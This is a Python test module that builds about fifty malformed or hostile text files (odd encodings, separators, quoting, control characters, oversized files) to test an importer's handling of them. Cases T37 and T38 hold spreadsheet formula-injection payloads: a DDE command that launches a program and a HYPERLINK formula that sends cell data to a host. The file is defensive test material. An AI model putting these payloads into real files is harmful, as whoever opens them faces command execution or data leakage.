"""Text files of odd programs: encodings, separators, quotes, controls, lengths."""

from collections.abc import Callable

from tests.corpus.hostile_case import HostileCase, reads
from tests.corpus.packages import good_sheet
from tests.corpus.second_answers import FIVE, FIVE_OR_REFUSED, NOTHING, SOME
from tests.corpus.sheets import Sheet, delimited
from tests.corpus.stock import AUTUMN_24, STANDARD_HEADINGS, stock_for

__all__ = ["CASES"]

FEW = stock_for(AUTUMN_24, rows=5)


def _told(details: str = "") -> Sheet:
    sheet = good_sheet()
    if details:
        for row in sheet.rows[1:]:
            row[3] = details
    return sheet


def _text(
    encoding: str = "utf-8", delimiter: str = ",", *, details: str = "", wrap: str = "{}",
    ends: str = "\r\n",
) -> Callable[[], bytes]:  # fmt: skip
    def build() -> bytes:
        lines = delimited(_told(details), delimiter).splitlines()
        return wrap.replace("{}", ends.join(lines) + ends).encode(encoding)

    return build


def _fields(join: str, *, quote: str = "", escape: str = "") -> Callable[[], bytes]:
    """Records joined by hand, each field between quotes of one's choice."""

    def build() -> bytes:
        lines = [list(STANDARD_HEADINGS)]
        for day, item in FEW:
            details = (
                item.details.replace(".", f' {escape}"so{escape}".') if escape else item.details
            )
            lines.append([f"{day:%d/%m/%Y}", item.category, item.nature, details, item.outcome])
        return "\n".join(
            join.join(f"{quote}{field}{quote}" for field in line) for line in lines
        ).encode()

    return build


def _wrapped_lines() -> bytes:
    """Each record stands as a whole between quotation marks, as after saving text twice."""
    lines = delimited(good_sheet()).splitlines()
    return "\n".join('"' + line.replace('"', '""') + '"' for line in lines).encode()


def _aligned() -> bytes:
    """Columns kept apart by spaces alone, as "formatted text" saves them."""
    lines = [
        "".join(field.ljust(64) for field in line.split("\t"))
        for line in delimited(good_sheet(), "\t").splitlines()
    ]
    return "\r\n".join(lines).encode()


def _changed(change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    return lambda: change(_text()())


def _odd_length() -> bytes:
    return _text("utf-16")() + b"\0"


def _long_file(rows: int) -> Callable[[], bytes]:
    def build() -> bytes:
        head, *lines = delimited(good_sheet()).splitlines()
        return "\n".join([head, *(lines * (rows // len(lines)))]).encode()

    return build


CASES = (
    HostileCase("Mac Roman", "T1.csv", _text("mac-roman", details="Caf\u00e9 \u2013 \u00a320"),
                **FIVE),
    HostileCase("UTF-7", "T2.csv", _text("utf-7", details="Caf\u00e9"), **FIVE),
    HostileCase("UTF-32 with its mark", "T3.csv", _text("utf-32"), **FIVE_OR_REFUSED),
    HostileCase("UTF-16 big-endian without its mark", "T4.csv", _text("utf-16-be"),
                **FIVE_OR_REFUSED),
    HostileCase("UTF-16 with a byte too many", "T5.csv", _odd_length, **FIVE_OR_REFUSED),
    HostileCase("EBCDIC", "T6.csv", _text("cp500"), **NOTHING),
    HostileCase("bytes that are no UTF-8 and no Windows text", "T7.csv",
                _changed(lambda text: text.replace(b"group", b"gr\x81\x8d\x8f\x90\x9dup")), **FIVE),
    HostileCase("half a character", "T8.csv",
                _changed(lambda text: text.replace(b"group", b"gr\xed\xa0\x80\xc0\xafup")), **FIVE),
    HostileCase("one file in two encodings", "T9.csv",
                _changed(lambda text: text.replace(b"group", "gr\u00fcp".encode())
                         .replace(b"clip", b"cl\xefp")), **FIVE),
    HostileCase("two byte-order marks", "T10.csv", _text("utf-8-sig", wrap="\ufeff{}"), **FIVE),
    HostileCase("a byte-order mark in the middle", "T11.csv", _text(details="Seen \ufeff told"),
                **FIVE),
    HostileCase("carriage returns alone", "T12.csv", _text(ends="\r"), **FIVE),
    HostileCase("line feeds before carriage returns", "T13.csv", _text(ends="\n\r"), **FIVE),
    HostileCase("ends of every kind", "T14.csv",
                _changed(lambda text: text.replace(b"\r\n", b"\n", 2).replace(b"\r\n", b"\r", 1)),
                **FIVE),
    HostileCase("line ends of other alphabets in cells", "T15.csv",
                _changed(lambda text: text.replace(
                    b"group", "gr\u2028o\u2029u\x85p\x0b\x0c".encode())),
                **FIVE),
    HostileCase("pipes", "T16.csv", _text(delimiter="|"), **FIVE),
    HostileCase("pipes with spaces", "T17.txt", _fields(" | "), **FIVE),
    HostileCase("carets", "T18.csv", _text(delimiter="^"), **FIVE_OR_REFUSED),
    HostileCase("tildes", "T19.txt", _text(delimiter="~"), **FIVE_OR_REFUSED),
    HostileCase("colons", "T20.txt", _text(delimiter=":"), **SOME),
    HostileCase("commas with spaces and quotes", "T21.csv", _fields(", ", quote='"'), **FIVE),
    HostileCase("single quotes", "T22.csv", _fields(",", quote="'"), **FIVE_OR_REFUSED),
    HostileCase("curly quotes", "T23.csv", _fields(";", quote="\u201d"), **FIVE_OR_REFUSED),
    HostileCase("quotes inside without doubling", "T24.csv", _fields(";", escape=" "), **FIVE),
    HostileCase("quotes escaped by backslashes", "T25.csv", _fields(",", quote='"', escape="\\"),
                **SOME),
    HostileCase("whole records in quotes", "T26.csv", _wrapped_lines, **FIVE_OR_REFUSED),
    HostileCase("columns kept apart by spaces", "T27.prn", _aligned, **FIVE_OR_REFUSED),
    HostileCase("sep= with a tab", "T28.csv", _text(delimiter="\t", wrap="sep=\t\r\n{}"), **FIVE),
    HostileCase("sep= in quotes", "T29.csv", _text(delimiter=";", wrap='"sep=;"\r\n{}'), **FIVE),
    HostileCase("sep= that lies", "T30.csv", _text(delimiter=",", wrap="sep=;\r\n{}"), **FIVE),
    HostileCase("nothing but sep=", "T31.csv", lambda: b"sep=;", **NOTHING),
    HostileCase("200 empty fields behind each record", "T32.csv",
                _changed(lambda text: text.replace(b"\r\n", b"," * 200 + b"\r\n")), **FIVE),
    HostileCase("NUL bytes behind the end", "T33.csv", lambda: _text()() + b"\0" * 5_000, **FIVE),
    HostileCase("NUL bytes and nothing else", "T34.csv", lambda: b"\0" * 50_000, **NOTHING),
    HostileCase("the end-of-file sign of old systems", "T35.csv", lambda: _text()() + b"\x1a",
                **FIVE),
    HostileCase("control characters in cells", "T36.csv",
                _text(details="\x1b[31mred\x1b[0m \x07\x08\x01"), **FIVE),
    HostileCase("formulas for another program", "T37.csv",
                _text(details="=cmd|' /C calc'!A0"), **FIVE),
    HostileCase("links that send cells away", "T38.csv",
                _text(details='=HYPERLINK(""http://127.0.0.1/?x=""&A1)'), **SOME),
    HostileCase("one cell of 10 MB", "T39.csv", _text(details="told " * 400_000),
                **FIVE_OR_REFUSED),
    HostileCase("12 MB without a line end", "T40.csv", lambda: b"x" * 12_000_000, **NOTHING),
    HostileCase("5 MB of quotation marks", "T41.csv", lambda: b'"' * 5_000_000, **NOTHING),
    HostileCase("300,000 short lines", "T42.csv", lambda: b"x\n" * 300_000, **NOTHING),
    HostileCase("200,000 empty lines and then the log", "T43.csv",
                lambda: b"\r\n" * 200_000 + _text()(), **FIVE_OR_REFUSED),
    HostileCase("a hundred thousand rows that repeat", "T44.csv", _long_file(100_000),
                **reads(5, 100_000, or_refused=True)),
    HostileCase("one byte", "T45.csv", lambda: b"x", **NOTHING),
    HostileCase("one quotation mark", "T46.csv", lambda: b'"', **NOTHING),
    HostileCase("a byte-order mark and nothing else", "T47.csv", lambda: b"\xef\xbb\xbf",
                **NOTHING),
    HostileCase("half of a mark of UTF-16", "T48.csv", lambda: b"\xff", **NOTHING),
    HostileCase("only headings as text", "T49.csv",
                lambda: ",".join(STANDARD_HEADINGS).encode(), **NOTHING),
    HostileCase("text named .tab", "T50.tab", _text(delimiter="\t"), **FIVE_OR_REFUSED),
    HostileCase("text named .dat", "T51.dat", _text(), **FIVE_OR_REFUSED),
    HostileCase("text named .CSV", "T52.CSV", _text(), **FIVE),
)  # fmt: skip
